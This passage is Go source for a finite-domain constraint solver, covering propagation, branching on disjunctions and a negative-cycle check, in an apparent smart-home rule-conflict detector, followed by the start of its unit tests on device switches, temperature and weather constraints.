	// binary atom is decided. It is owned by the in-flight Solve call only:
	// Solve extracts the witness model from it and immediately recycles the
	// store, clearing the field before returning. It never aliases the root
	// store of a previous Solve, because each Solve rebuilds its root from
	// the declared domains in p.vars — search narrows domains only inside
	// per-call stores, never in p.vars — which is what makes calling Solve
	// repeatedly on one Problem deterministic. (Problem is still not safe
	// for concurrent use.)
	lastSolution *store

	// Scratch buffers reused across the many diffUnsat calls one search
	// performs (one per labeling node); see diffUnsat.
	diffNode  []int32
	diffEdges []diffEdge
	diffDist  []int64
	diffVars  []int32
}

// NewProblem returns an empty problem.
func NewProblem() *Problem {
	return &Problem{index: map[string]int{}, nodeCap: 200_000}
}

// SetNodeCap overrides the search node budget (default 200k). Exhausting
// the budget surfaces as ErrSearchLimit from Solve. A cap <= 0 is ignored.
func (p *Problem) SetNodeCap(n int) {
	if n > 0 {
		p.nodeCap = n
	}
}

// AddIntVar declares an integer variable with domain [min, max].
// Redeclaring narrows the existing domain.
func (p *Problem) AddIntVar(name string, min, max int64) {
	if id, ok := p.index[name]; ok {
		v := &p.vars[id]
		if v.enum == nil {
			v.dom = v.dom.Intersect(NewDomain(min, max))
		}
		return
	}
	p.index[name] = len(p.vars)
	p.vars = append(p.vars, variable{name: name, dom: NewDomain(min, max)})
}

// AddEnumVar declares an enumeration variable with the given values. The
// slice is retained, not copied — callers must not mutate it after the
// call (the detector passes registry-owned or freshly built slices).
func (p *Problem) AddEnumVar(name string, values []string) {
	if _, ok := p.index[name]; ok {
		return
	}
	p.index[name] = len(p.vars)
	p.vars = append(p.vars, variable{
		name: name,
		enum: values,
		dom:  NewDomain(0, int64(len(values)-1)),
	})
}

// AddBoolVar declares a boolean variable (an enum of false/true).
func (p *Problem) AddBoolVar(name string) {
	p.AddEnumVar(name, []string{"false", "true"})
}

// HasVar reports whether the variable is declared.
func (p *Problem) HasVar(name string) bool {
	_, ok := p.index[name]
	return ok
}

// EnumValues returns the declared values of an enum variable (nil for
// integer variables or unknown names).
func (p *Problem) EnumValues(name string) []string {
	if id, ok := p.index[name]; ok {
		return p.vars[id].enum
	}
	return nil
}

// AddConstraint records a formula that the model must satisfy. Variables
// referenced but not declared are auto-declared: integer variables with
// the default bounds when compared against integers, enum variables with
// the observed string values otherwise.
//
// Constraints are constant-folded on the way in: comparisons between two
// constants collapse to literals, conjunctions and disjunctions simplify
// around them, and a formula that folds to false marks the whole problem
// trivially UNSAT so Solve never enters the search.
func (p *Problem) AddConstraint(c rule.Constraint) {
	if c == nil {
		return
	}
	c = foldConstraint(c)
	if lit, ok := c.(rule.Lit); ok {
		if !bool(lit) {
			p.unsat = true
		}
		return
	}
	p.autoDeclare(c)
	// Top-level conjunctions are pre-split so the search worklist never
	// re-flattens them (the common shape: one And per rule formula).
	if a, ok := c.(rule.And); ok {
		p.formulas = append(p.formulas, a.Cs...)
		return
	}
	p.formulas = append(p.formulas, c)
}

// foldConstraint constant-folds a formula: const-const comparisons become
// literals and And/Or/Not simplify around them. Comparisons it cannot
// evaluate soundly (ordered string comparisons, unknown constraint types)
// are left for the search, which reports them as errors exactly as before.
func foldConstraint(c rule.Constraint) rule.Constraint {
	out, _ := foldC(c)
	return out
}

// Preboxed literal constraints: returning rule.Lit through the Constraint
// interface would otherwise allocate on every fold.
var (
	litTrue  rule.Constraint = rule.TrueC
	litFalse rule.Constraint = rule.FalseC
)

func boxLit(b bool) rule.Constraint {
	if b {
		return litTrue
	}
	return litFalse
}

func foldC(c rule.Constraint) (rule.Constraint, bool) {
	switch x := c.(type) {
	case rule.Cmp:
		li, lInt := constInt(x.L)
		ri, rInt := constInt(x.R)
		if lInt && rInt {
			return boxLit(evalConst(x.Op, li, ri)), true
		}
		ls, lStr := x.L.(rule.StrVal)
		rs, rStr := x.R.(rule.StrVal)
		// Any const pair with at least one string side: equal only when
		// both are the same string (mirrors assertCmp's const-const
		// handling; ordered string comparisons stay for the error path).
		lConst, rConst := lInt || lStr, rInt || rStr
		if lConst && rConst && (lStr || rStr) && (x.Op == rule.OpEq || x.Op == rule.OpNe) {
			eq := lStr && rStr && ls == rs
			if x.Op == rule.OpNe {
				eq = !eq
			}
			return boxLit(eq), true
		}
		return x, false
	case rule.And:
		folded, changed := foldList(x.Cs)
		if !changed {
			return x, false
		}
		return rule.Conj(folded...), true
	case rule.Or:
		folded, changed := foldList(x.Cs)
		if !changed {
			return x, false
		}
		return rule.Disj(folded...), true
	case rule.Not:
		f, changed := foldC(x.C)
		if lit, ok := f.(rule.Lit); ok {
			return boxLit(!bool(lit)), true
		}
		if !changed {
			return x, false
		}
		return rule.Not{C: f}, true
	}
	return c, false
}

// constInt extracts integer-valued constants (ints and bools).
func constInt(t rule.Term) (int64, bool) {
	switch x := t.(type) {
	case rule.IntVal:
		return int64(x), true
	case rule.BoolVal:
		if bool(x) {
			return 1, true
		}
		return 0, true
	}
	return 0, false
}

func foldList(cs []rule.Constraint) ([]rule.Constraint, bool) {
	changed := false
	out := cs
	for i, sub := range cs {
		f, ch := foldC(sub)
		if ch && !changed {
			changed = true
			out = append([]rule.Constraint(nil), cs...)
		}
		if changed {
			out[i] = f
		}
	}
	// A literal anywhere forces the Conj/Disj rebuild even when no child
	// changed (a pre-existing Lit in the slice).
	if !changed {
		for _, sub := range cs {
			if _, ok := sub.(rule.Lit); ok {
				return append([]rule.Constraint(nil), cs...), true
			}
		}
	}
	return out, changed
}

func (p *Problem) autoDeclare(c rule.Constraint) {
	switch x := c.(type) {
	case rule.Cmp:
		p.autoDeclareTerm(x.L, x.R)
		p.autoDeclareTerm(x.R, x.L)
	case rule.And:
		for _, sub := range x.Cs {
			p.autoDeclare(sub)
		}
	case rule.Or:
		for _, sub := range x.Cs {
			p.autoDeclare(sub)
		}
	case rule.Not:
		p.autoDeclare(x.C)
	}
}

func (p *Problem) autoDeclareTerm(t, other rule.Term) {
	var v rule.Var
	switch x := t.(type) {
	case rule.Var:
		v = x
	case rule.Sum:
		v = x.X
	default:
		return
	}
	if p.HasVar(v.Name) {
		return
	}
	switch o := other.(type) {
	case rule.StrVal:
		// Enum variable whose value set is unknown: declare with the
		// observed value plus a distinguished "other" value so both == and
		// != are satisfiable.
		p.AddEnumVar(v.Name, []string{string(o), "\x00other"})
	case rule.BoolVal:
		p.AddBoolVar(v.Name)
	default:
		if v.Type == rule.TypeString {
			p.AddEnumVar(v.Name, []string{"\x00other"})
			return
		}
		p.AddIntVar(v.Name, DefaultIntMin, DefaultIntMax)
	}
}

// ---------- atoms ----------

// atom is a pending binary (var-vs-var) comparison after normalization:
// x op y + k, with x and y variable ids. The ops "enumEq"/"enumNe" mark
// enum correspondences checked at labeling time.
type atom struct {
	op   rule.CmpOp
	x, y int32
	k    int64
}

// store is the propagation state: current domains (indexed by variable
// id) plus pending binary atoms. Stores are pooled: the search clones one
// per branch and recycles failed branches, so the steady-state allocation
// of a solve is the handful of stores live on the deepest branch — not
// one map per node as in the map-backed predecessor.
type store struct {
	doms []Domain
	bins []atom
}

var storePool = sync.Pool{New: func() any { return new(store) }}

// cloneStore copies s into a pooled store. Domains are immutable values
// (every Domain operation returns a fresh interval slice), so the shallow
// copy shares interval backing arrays safely.
func cloneStore(s *store) *store {
	c := storePool.Get().(*store)
	c.doms = append(c.doms[:0], s.doms...)
	c.bins = append(c.bins[:0], s.bins...)
	return c
}

func releaseStore(s *store) {
	storePool.Put(s)
}

// Solve decides satisfiability of the conjunction of all added formulas.
// It returns a witness model when satisfiable.
//
// Solve may be called repeatedly on one Problem and is deterministic: the
// root store is rebuilt from the declared domains each call and the search
// narrows domains only inside per-call stores, so no state from one call
// leaks into the next (see lastSolution).
func (p *Problem) Solve() (Model, bool, error) {
	if p.unsat {
		return nil, false, nil
	}
	st := storePool.Get().(*store)
	st.doms = st.doms[:0]
	st.bins = st.bins[:0]
	for i := range p.vars {
		st.doms = append(st.doms, p.vars[i].dom)
	}
	budget := p.nodeCap
	ok, err := p.search(p.formulas, st, &budget)
	if err != nil || !ok {
		releaseStore(st)
		return nil, false, err
	}
	// The search captured the deciding store (possibly a descendant clone
	// of st) in lastSolution; extract the witness, then recycle both.
	m := p.model(p.lastSolution)
	if p.lastSolution != st {
		releaseStore(p.lastSolution)
	}
	releaseStore(st)
	p.lastSolution = nil
	return m, true, nil
}

// model renders a witness from a decided store.
func (p *Problem) model(st *store) Model {
	m := Model{}
	for i := range p.vars {
		v := &p.vars[i]
		dom := st.doms[i]
		if dom.Empty() {
			continue
		}
		val := dom.Min()
		if v.enum != nil {
			idx := int(val)
			if idx >= 0 && idx < len(v.enum) {
				m[v.name] = Value{Enum: v.enum[idx], Int: val}
				continue
			}
		}
		m[v.name] = Value{Int: val}
	}
	return m
}

// search processes the formula worklist depth-first, branching on
// disjunctions, then labels variables. st is owned by the caller; search
// never releases it, only clones it for branches.
func (p *Problem) search(formulas []rule.Constraint, st *store, budget *int) (bool, error) {
	*budget--
	if *budget <= 0 {
		return false, ErrSearchLimit
	}
	for len(formulas) > 0 {
		f := formulas[0]
		formulas = formulas[1:]
		switch x := f.(type) {
		case nil:
			continue
		case rule.Lit:
			if !bool(x) {
				return false, nil
			}
		case rule.And:
			formulas = append(append([]rule.Constraint(nil), x.Cs...), formulas...)
		case rule.Not:
			formulas = append([]rule.Constraint{rule.Negate(x.C)}, formulas...)
		case rule.Or:
			for _, alt := range x.Cs {
				sub := append([]rule.Constraint{alt}, formulas...)
				child := cloneStore(st)
				ok, err := p.search(sub, child, budget)
				if err != nil {
					return false, err
				}
				if ok {
					return true, nil
				}
				releaseStore(child)
			}
			return false, nil
		case rule.Cmp:
			ok, err := p.assertCmp(x, st)
			if err != nil {
				return false, err
			}
			if !ok {
				return false, nil
			}
		default:
			return false, fmt.Errorf("solver: unsupported constraint %T", f)
		}
	}
	if !p.propagate(st) {
		return false, nil
	}
	return p.label(st, budget)
}

// assertCmp translates one comparison into domain narrowing and/or a
// pending binary atom. Returns false when immediately unsatisfiable.
func (p *Problem) assertCmp(c rule.Cmp, st *store) (bool, error) {
	l, lOK := p.resolveTerm(c.L)
	r, rOK := p.resolveTerm(c.R)
	if !lOK || !rOK {
		return false, fmt.Errorf("solver: unresolvable term in %s", c)
	}
	// const-const
	if l.isConst && r.isConst {
		if l.isStr || r.isStr {
			eq := l.isStr && r.isStr && l.str == r.str
			switch c.Op {
			case rule.OpEq:
				return eq, nil
			case rule.OpNe:
				return !eq, nil
			default:
				return false, fmt.Errorf("solver: ordered comparison on string constants in %s", c)
			}
		}
		return evalConst(c.Op, l.c, r.c), nil
	}
	// const op var → flip
	if l.isConst {
		if l.isStr {
			return p.assertStrCmp(c.Op.Flip(), r, l.str, st)
		}
		return p.assertVarConst(c.Op.Flip(), r, l.c, st)
	}
	if r.isConst {
		if r.isStr {
			return p.assertStrCmp(c.Op, l, r.str, st)
		}
		return p.assertVarConst(c.Op, l, r.c, st)
	}
	return p.assertVarVar(c.Op, l, r, st)
}

// resolved is a normalized term: constant, or variable id + offset.
type resolved struct {
	isConst bool
	isStr   bool
	c       int64
	str     string // string constant carrier
	id      int32  // variable id
	off     int64
}

func (p *Problem) resolveTerm(t rule.Term) (resolved, bool) {
	switch x := t.(type) {
	case rule.IntVal:
		return resolved{isConst: true, c: int64(x)}, true
	case rule.BoolVal:
		if bool(x) {
			return resolved{isConst: true, c: 1}, true
		}
		return resolved{isConst: true, c: 0}, true
	case rule.StrVal:
		// String constants resolve against the other side's enum table in
		// assertStrCmp.
		return resolved{isConst: true, isStr: true, str: string(x)}, true
	case rule.Var:
		id, ok := p.index[x.Name]
		if !ok {
			return resolved{}, false
		}
		return resolved{id: int32(id)}, true
	case rule.Sum:
		id, ok := p.index[x.X.Name]
		if !ok {
			return resolved{}, false
		}
		return resolved{id: int32(id), off: x.K}, true
	}
	return resolved{}, false
}

func evalConst(op rule.CmpOp, a, b int64) bool {
	switch op {
	case rule.OpEq:
		return a == b
	case rule.OpNe:
		return a != b
	case rule.OpLt:
		return a < b
	case rule.OpLe:
		return a <= b
	case rule.OpGt:
		return a > b
	case rule.OpGe:
		return a >= b
	}
	return false
}

// assertVarConst narrows var (+off) op const.
func (p *Problem) assertVarConst(op rule.CmpOp, v resolved, c int64, st *store) (bool, error) {
	dom := st.doms[v.id]
	// x + off op c  ⇔  x op c - off
	c -= v.off
	switch op {
	case rule.OpEq:
		dom = dom.Only(c)
	case rule.OpNe:
		dom = dom.Remove(c)
	case rule.OpLt:
		dom = dom.ClampMax(c - 1)
	case rule.OpLe:
		dom = dom.ClampMax(c)
	case rule.OpGt:
		dom = dom.ClampMin(c + 1)
	case rule.OpGe:
		dom = dom.ClampMin(c)
	}
	st.doms[v.id] = dom
	return !dom.Empty(), nil
}

// assertStrCmp narrows an enum variable against a string constant.
func (p *Problem) assertStrCmp(op rule.CmpOp, v resolved, s string, st *store) (bool, error) {
	pv := &p.vars[v.id]
	if pv.enum == nil {
		return false, fmt.Errorf("solver: comparing integer variable %q to string %q", pv.name, s)
	}
	idx := int64(-1)
	for i, val := range pv.enum {
		if val == s {
			idx = int64(i)
			break
		}
	}
	switch op {
	case rule.OpEq:
		if idx < 0 {
			st.doms[v.id] = Domain{}
			return false, nil
		}
		return p.assertVarConst(rule.OpEq, v, idx, st)
	case rule.OpNe:
		if idx < 0 {
			return true, nil // always distinct
		}
		return p.assertVarConst(rule.OpNe, v, idx, st)
	default:
		return false, fmt.Errorf("solver: ordered comparison %s on enum variable %q", op, pv.name)
	}
}

// assertVarVar records x op y + k as a pending binary atom.
func (p *Problem) assertVarVar(op rule.CmpOp, l, r resolved, st *store) (bool, error) {
	// Two enum variables: only ==/!= are meaningful; translate to a
	// disjunction over shared value names.
	lv, rv := &p.vars[l.id], &p.vars[r.id]
	if lv.enum != nil || rv.enum != nil {
		if lv.enum == nil || rv.enum == nil {
			return false, fmt.Errorf("solver: comparing enum %q with integer %q", lv.name, rv.name)
		}
		return p.assertEnumVarVar(op, l, r, st)
	}
	// x + lo op y + ro  ⇔  x op y + (ro - lo)
	st.bins = append(st.bins, atom{op: op, x: l.id, y: r.id, k: r.off - l.off})
	return narrowBinary(st, st.bins[len(st.bins)-1]), nil
}

func (p *Problem) assertEnumVarVar(op rule.CmpOp, l, r resolved, st *store) (bool, error) {
	lv, rv := &p.vars[l.id], &p.vars[r.id]
	switch op {
	case rule.OpEq, rule.OpNe:
	default:
		return false, fmt.Errorf("solver: ordered comparison %s between enum variables", op)
	}
	// Build index correspondence over shared value names.
	common := map[int64]int64{} // l index → r index
	for i, lval := range lv.enum {
		for j, rval := range rv.enum {
			if lval == rval {
				common[int64(i)] = int64(j)
			}
		}
	}
	if op == rule.OpEq {
		// Disjunction over shared values; encode directly by trimming
		// both domains to shared values and linking via bins with offset
		// — offsets differ per value, so fall back to explicit search:
		// keep it simple and sound by enumerating.
		ld, rd := st.doms[l.id], st.doms[r.id]
		var lKeep, rKeep []int64
		for li, ri := range common {
			if ld.Contains(li) && rd.Contains(ri) {
				lKeep = append(lKeep, li)
				rKeep = append(rKeep, ri)
			}
		}
		if len(lKeep) == 0 {
			st.doms[l.id] = Domain{}
			return false, nil
		}
		st.doms[l.id] = keepOnly(ld, lKeep)
		st.doms[r.id] = keepOnly(rd, rKeep)
		// Record the correspondence so labeling respects it: encode each
		// pair as a conditional; with tiny enum domains, add a pending
		// enum-equality atom checked at labeling time.
		st.bins = append(st.bins, atom{op: "enumEq", x: l.id, y: r.id})
		return true, nil
	}
	// != between enums: satisfied unless both are pinned to the same name.
	st.bins = append(st.bins, atom{op: "enumNe", x: l.id, y: r.id})
	return true, nil
}

func keepOnly(d Domain, vals []int64) Domain {
	sort.Slice(vals, func(i, j int) bool { return vals[i] < vals[j] })
	out := Domain{}
	for _, v := range vals {
		if d.Contains(v) {
			out.ivs = append(out.ivs, Interval{v, v})
		}
	}
	// merge adjacent
	var merged []Interval
	for _, iv := range out.ivs {
		if n := len(merged); n > 0 && merged[n-1].Hi+1 >= iv.Lo {
			if iv.Hi > merged[n-1].Hi {
				merged[n-1].Hi = iv.Hi
			}
			continue
		}
		merged = append(merged, iv)
	}
	return Domain{ivs: merged}
}

// narrowBinary applies bounds propagation for one binary atom.
// Returns false when a domain becomes empty.
func narrowBinary(st *store, a atom) bool {
	if a.op == "enumEq" || a.op == "enumNe" {
		return true // handled at labeling
	}
	dx, dy := st.doms[a.x], st.doms[a.y]
	if dx.Empty() || dy.Empty() {
		return false
	}
	fail := func() bool {
		st.doms[a.x] = dx
		st.doms[a.y] = dy
		return false
	}
	// x op y + k
	switch a.op {
	case rule.OpEq:
		dx = dx.Intersect(shift(dy, a.k))
		if dx.Empty() {
			return fail()
		}
		dy = dy.Intersect(shift(dx, -a.k))
	case rule.OpNe:
		if dy.Singleton() {
			dx = dx.Remove(dy.Min() + a.k)
		}
		if dx.Singleton() {
			dy = dy.Remove(dx.Min() - a.k)
		}
	case rule.OpLt:
		dx = dx.ClampMax(dy.Max() + a.k - 1)
		if dx.Empty() {
			return fail()
		}
		dy = dy.ClampMin(dx.Min() - a.k + 1)
	case rule.OpLe:
		dx = dx.ClampMax(dy.Max() + a.k)
		if dx.Empty() {
			return fail()
		}
		dy = dy.ClampMin(dx.Min() - a.k)
	case rule.OpGt:
		dx = dx.ClampMin(dy.Min() + a.k + 1)
		if dx.Empty() {
			return fail()
		}
		dy = dy.ClampMax(dx.Max() - a.k - 1)
	case rule.OpGe:
		dx = dx.ClampMin(dy.Min() + a.k)
		if dx.Empty() {
			return fail()
		}
		dy = dy.ClampMax(dx.Max() - a.k)
	}
	st.doms[a.x] = dx
	st.doms[a.y] = dy
	return !dx.Empty() && !dy.Empty()
}

func shift(d Domain, k int64) Domain {
	if k == 0 {
		return d
	}
	out := Domain{ivs: make([]Interval, len(d.ivs))}
	for i, iv := range d.ivs {
		out.ivs[i] = Interval{iv.Lo + k, iv.Hi + k}
	}
	return out
}

// propagate runs the binary atoms toward fixpoint. Progress is detected
// via a cheap per-variable fingerprint (size, min, max, interval count):
// every narrowing step strictly shrinks some domain, so the fingerprint
// changes. Rounds are capped: cyclic strict inequalities (x < y ∧ y < x
// over large ranges) converge only one unit per round, so after the cap we
// return early and let the bisection search finish the refutation —
// stopping before fixpoint is sound, merely less eager.
func (p *Problem) propagate(st *store) bool {
	if len(st.bins) == 0 {
		return true
	}
	const maxRounds = 64
	for iter := 0; iter < maxRounds; iter++ {
		before := fingerprint(st)
		for _, a := range st.bins {
			if !narrowBinary(st, a) {
				return false
			}
		}
		if fingerprint(st) == before {
			return true
		}
	}
	return true
}

func fingerprint(st *store) uint64 {
	var h uint64 = 1469598103934665603 // FNV offset basis
	mix := func(v uint64) {
		h ^= v
		h *= 1099511628211
	}
	for _, a := range st.bins {
		for _, id := range [2]int32{a.x, a.y} {
			d := st.doms[id]
			if d.Empty() {
				mix(0xdead)
				continue
			}
			mix(uint64(d.Size()))
			mix(uint64(d.Min()))
			mix(uint64(d.Max()))
			mix(uint64(len(d.ivs)))
		}
	}
	return h
}

type diffEdge struct {
	from, to int32
	w        int64
}

// diffUnsat runs a Bellman–Ford negative-cycle check over the difference
// constraints in the store (every ordering/equality atom is of the form
// x ≤ y + k). Cyclic systems such as x < y ∧ y < x are refuted instantly
// here, where bounds propagation would converge one unit per round. All
// working storage lives in Problem-level scratch buffers: label calls
// this once per search node, and the map-backed predecessor allocated
// four structures per call.
func (p *Problem) diffUnsat(st *store) bool {
	if len(st.bins) == 0 {
		return false
	}
	// diffNode maps variable id → node number (0 = absent; origin is node
	// 0 in the distance array, variables start at 1).
	if len(p.diffNode) < len(p.vars) {
		p.diffNode = make([]int32, len(p.vars))
	}
	nodes := p.diffNode
	for i := range nodes {
		nodes[i] = 0
	}
	p.diffVars = p.diffVars[:0]
	var next int32 = 1
	node := func(id int32) int32 {
		if nodes[id] == 0 {
			nodes[id] = next
			next++
			p.diffVars = append(p.diffVars, id)
		}
		return nodes[id]
	}
	edges := p.diffEdges[:0]
	for _, a := range st.bins {
		switch a.op {
		case rule.OpLe: // x ≤ y + k
			edges = append(edges, diffEdge{node(a.y), node(a.x), a.k})
		case rule.OpLt: // x ≤ y + k - 1
			edges = append(edges, diffEdge{node(a.y), node(a.x), a.k - 1})
		case rule.OpGe: // y ≤ x - k
			edges = append(edges, diffEdge{node(a.x), node(a.y), -a.k})
		case rule.OpGt: // y ≤ x - k - 1
			edges = append(edges, diffEdge{node(a.x), node(a.y), -a.k - 1})
		case rule.OpEq: // both directions
			edges = append(edges,
				diffEdge{node(a.y), node(a.x), a.k},
				diffEdge{node(a.x), node(a.y), -a.k})
		}
	}
	if len(edges) == 0 {
		p.diffEdges = edges
		return false
	}
	// Domain bounds: x ≤ max (origin→x) and -x ≤ -min (x→origin).
	for _, id := range p.diffVars {
		d := st.doms[id]
		if d.Empty() {
			p.diffEdges = edges
			return true
		}
		i := nodes[id]
		edges = append(edges, diffEdge{0, i, d.Max()}, diffEdge{i, 0, -d.Min()})
	}
	p.diffEdges = edges
	n := int(next)
	if cap(p.diffDist) < n {
		p.diffDist = make([]int64, n)
	}
	dist := p.diffDist[:n]
	for i := range dist {
		dist[i] = 0
	}
	for iter := 0; iter <= n; iter++ {
		changed := false
		for _, e := range edges {
			if nd := dist[e.from] + e.w; nd < dist[e.to] {
				dist[e.to] = nd
				changed = true
			}
		}
		if !changed {
			return false
		}
	}
	return true // still relaxing after |V| rounds ⇒ negative cycle
}

// label assigns constraint-involved variables until all binary atoms are
// decided, backtracking on failure. On success the deciding store is
// captured in p.lastSolution for Solve to extract the model from; failed
// branch stores are recycled into the pool.
func (p *Problem) label(st *store, budget *int) (bool, error) {
	*budget--
	if *budget <= 0 {
		return false, ErrSearchLimit
	}
	if !p.propagate(st) {
		return false, nil
	}
	if p.diffUnsat(st) {
		return false, nil
	}
	// Check enum equality atoms and find an undecided variable.
	pick := int32(-1)
	var pickSize int64
	for _, a := range st.bins {
		dx, dy := st.doms[a.x], st.doms[a.y]
		if dx.Empty() || dy.Empty() {
			return false, nil
		}
		if dx.Singleton() && dy.Singleton() {
			if !p.atomHolds(a, dx.Min(), dy.Min()) {
				return false, nil
			}
			continue
		}
		for _, id := range [2]int32{a.x, a.y} {
			d := st.doms[id]
			if !d.Singleton() && (pick < 0 || d.Size() < pickSize) {
				pick, pickSize = id, d.Size()
			}
		}
	}
	if pick < 0 {
		p.lastSolution = st
		return true, nil
	}
	d := st.doms[pick]
	// Small domains: enumerate values; large: bisect.
	if d.Size() <= 8 {
		for v := d.Min(); v <= d.Max(); v++ {
			if !d.Contains(v) {
				continue
			}
			child := cloneStore(st)
			child.doms[pick] = NewDomain(v, v)
			ok, err := p.label(child, budget)
			if err != nil || ok {
				return ok, err
			}
			releaseStore(child)
		}
		return false, nil
	}
	lo, hi := d.Split()
	for _, half := range [2]Domain{lo, hi} {
		if half.Empty() {
			continue
		}
		child := cloneStore(st)
		child.doms[pick] = half
		ok, err := p.label(child, budget)
		if err != nil || ok {
			return ok, err
		}
		releaseStore(child)
	}
	return false, nil
}

// atomHolds checks a decided binary atom.
func (p *Problem) atomHolds(a atom, xv, yv int64) bool {
	switch a.op {
	case "enumEq":
		return p.enumName(a.x, xv) == p.enumName(a.y, yv)
	case "enumNe":
		return p.enumName(a.x, xv) != p.enumName(a.y, yv)
	default:
		return evalConst(a.op, xv, yv+a.k)
	}
}

func (p *Problem) enumName(id int32, idx int64) string {
	v := &p.vars[id]
	if v.enum == nil || idx < 0 || idx >= int64(len(v.enum)) {
		return fmt.Sprintf("#%d", idx)
	}
	return v.enum[idx]
}
