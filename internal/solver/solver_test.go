package solver

import (
	"math/rand"
	"testing"

	"homeguard/internal/rule"
)

func iv(name string) rule.Var {
	return rule.Var{Name: name, Kind: rule.VarDeviceAttr, Type: rule.TypeInt}
}

func sv(name string) rule.Var {
	return rule.Var{Name: name, Kind: rule.VarDeviceAttr, Type: rule.TypeString}
}

func cmp(op rule.CmpOp, l, r rule.Term) rule.Constraint { return rule.Cmp{Op: op, L: l, R: r} }

func solve(t *testing.T, p *Problem) (Model, bool) {
	t.Helper()
	m, ok, err := p.Solve()
	if err != nil {
		t.Fatalf("Solve: %v", err)
	}
	return m, ok
}

func TestSatSimpleEnum(t *testing.T) {
	p := NewProblem()
	p.AddEnumVar("tv1.switch", []string{"on", "off"})
	p.AddConstraint(cmp(rule.OpEq, sv("tv1.switch"), rule.StrVal("on")))
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT")
	}
	if m["tv1.switch"].Enum != "on" {
		t.Errorf("model = %v", m)
	}
}

func TestUnsatContradictoryEnum(t *testing.T) {
	p := NewProblem()
	p.AddEnumVar("d.switch", []string{"on", "off"})
	p.AddConstraint(cmp(rule.OpEq, sv("d.switch"), rule.StrVal("on")))
	p.AddConstraint(cmp(rule.OpEq, sv("d.switch"), rule.StrVal("off")))
	if _, ok := solve(t, p); ok {
		t.Fatal("expected UNSAT")
	}
}

func TestSatIntRange(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("temp", -40, 150)
	p.AddConstraint(cmp(rule.OpGt, iv("temp"), rule.IntVal(30)))
	p.AddConstraint(cmp(rule.OpLt, iv("temp"), rule.IntVal(35)))
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT")
	}
	v := m["temp"].Int
	if v <= 30 || v >= 35 {
		t.Errorf("witness %d outside (30,35)", v)
	}
}

func TestUnsatIntRange(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("temp", -40, 150)
	p.AddConstraint(cmp(rule.OpGt, iv("temp"), rule.IntVal(30)))
	p.AddConstraint(cmp(rule.OpLt, iv("temp"), rule.IntVal(20)))
	if _, ok := solve(t, p); ok {
		t.Fatal("expected UNSAT")
	}
}

func TestPaperOverlapExample(t *testing.T) {
	// Rule 1: tv on && temperature > 30 (threshold1=30)
	// Rule 2: tv on && weather == rainy
	// Overlap: raining and >30°C — SAT.
	p := NewProblem()
	p.AddEnumVar("tv1.switch", []string{"on", "off"})
	p.AddIntVar("tSensor.temperature", -40, 150)
	p.AddEnumVar("env.weather", []string{"sunny", "rainy", "cloudy"})
	p.AddConstraint(cmp(rule.OpEq, sv("tv1.switch"), rule.StrVal("on")))
	p.AddConstraint(cmp(rule.OpGt, iv("tSensor.temperature"), rule.IntVal(30)))
	p.AddConstraint(cmp(rule.OpEq, sv("env.weather"), rule.StrVal("rainy")))
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT (the paper's Fig. 3 overlapping situation)")
	}
	if m["env.weather"].Enum != "rainy" || m["tSensor.temperature"].Int <= 30 {
		t.Errorf("model = %v", m)
	}
}

func TestVarVarOrdering(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("a", 0, 10)
	p.AddIntVar("b", 0, 10)
	p.AddConstraint(cmp(rule.OpLt, iv("a"), iv("b")))
	p.AddConstraint(cmp(rule.OpGe, iv("a"), rule.IntVal(9)))
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT: a=9, b=10")
	}
	if !(m["a"].Int < m["b"].Int) {
		t.Errorf("model violates a < b: %v", m)
	}
}

func TestVarVarUnsat(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("a", 0, 10)
	p.AddIntVar("b", 0, 10)
	p.AddConstraint(cmp(rule.OpLt, iv("a"), iv("b")))
	p.AddConstraint(cmp(rule.OpLt, iv("b"), iv("a")))
	if _, ok := solve(t, p); ok {
		t.Fatal("expected UNSAT: a<b and b<a")
	}
}

func TestSumTermOffset(t *testing.T) {
	// a > b - 5 with a in [0,3], b in [9, 10] → a > 4..5 - impossible.
	p := NewProblem()
	p.AddIntVar("a", 0, 3)
	p.AddIntVar("b", 9, 10)
	p.AddConstraint(cmp(rule.OpGt, iv("a"), rule.Sum{X: iv("b"), K: -5}))
	if _, ok := solve(t, p); ok {
		t.Fatal("expected UNSAT")
	}
	// widen a → SAT.
	p2 := NewProblem()
	p2.AddIntVar("a", 0, 6)
	p2.AddIntVar("b", 9, 10)
	p2.AddConstraint(cmp(rule.OpGt, iv("a"), rule.Sum{X: iv("b"), K: -5}))
	m, ok := solve(t, p2)
	if !ok {
		t.Fatal("expected SAT")
	}
	if !(m["a"].Int > m["b"].Int-5) {
		t.Errorf("model violates constraint: %v", m)
	}
}

func TestDisjunction(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("x", 0, 100)
	p.AddConstraint(rule.Or{Cs: []rule.Constraint{
		cmp(rule.OpLt, iv("x"), rule.IntVal(-5)), // impossible given domain
		cmp(rule.OpEq, iv("x"), rule.IntVal(42)),
	}})
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT via second disjunct")
	}
	if m["x"].Int != 42 {
		t.Errorf("x = %d, want 42", m["x"].Int)
	}
}

func TestNegationPushing(t *testing.T) {
	p := NewProblem()
	p.AddIntVar("x", 0, 10)
	// !(x < 5 || x > 7) ⇔ x in [5,7]
	p.AddConstraint(rule.Not{C: rule.Or{Cs: []rule.Constraint{
		cmp(rule.OpLt, iv("x"), rule.IntVal(5)),
		cmp(rule.OpGt, iv("x"), rule.IntVal(7)),
	}}})
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT")
	}
	if m["x"].Int < 5 || m["x"].Int > 7 {
		t.Errorf("x = %d, want in [5,7]", m["x"].Int)
	}
}

func TestEnumVarVarEquality(t *testing.T) {
	p := NewProblem()
	p.AddEnumVar("a.switch", []string{"on", "off"})
	p.AddEnumVar("b.switch", []string{"off", "on"}) // different order on purpose
	p.AddConstraint(cmp(rule.OpEq, sv("a.switch"), sv("b.switch")))
	p.AddConstraint(cmp(rule.OpEq, sv("a.switch"), rule.StrVal("on")))
	m, ok := solve(t, p)
	if !ok {
		t.Fatal("expected SAT")
	}
	if m["b.switch"].Enum != "on" {
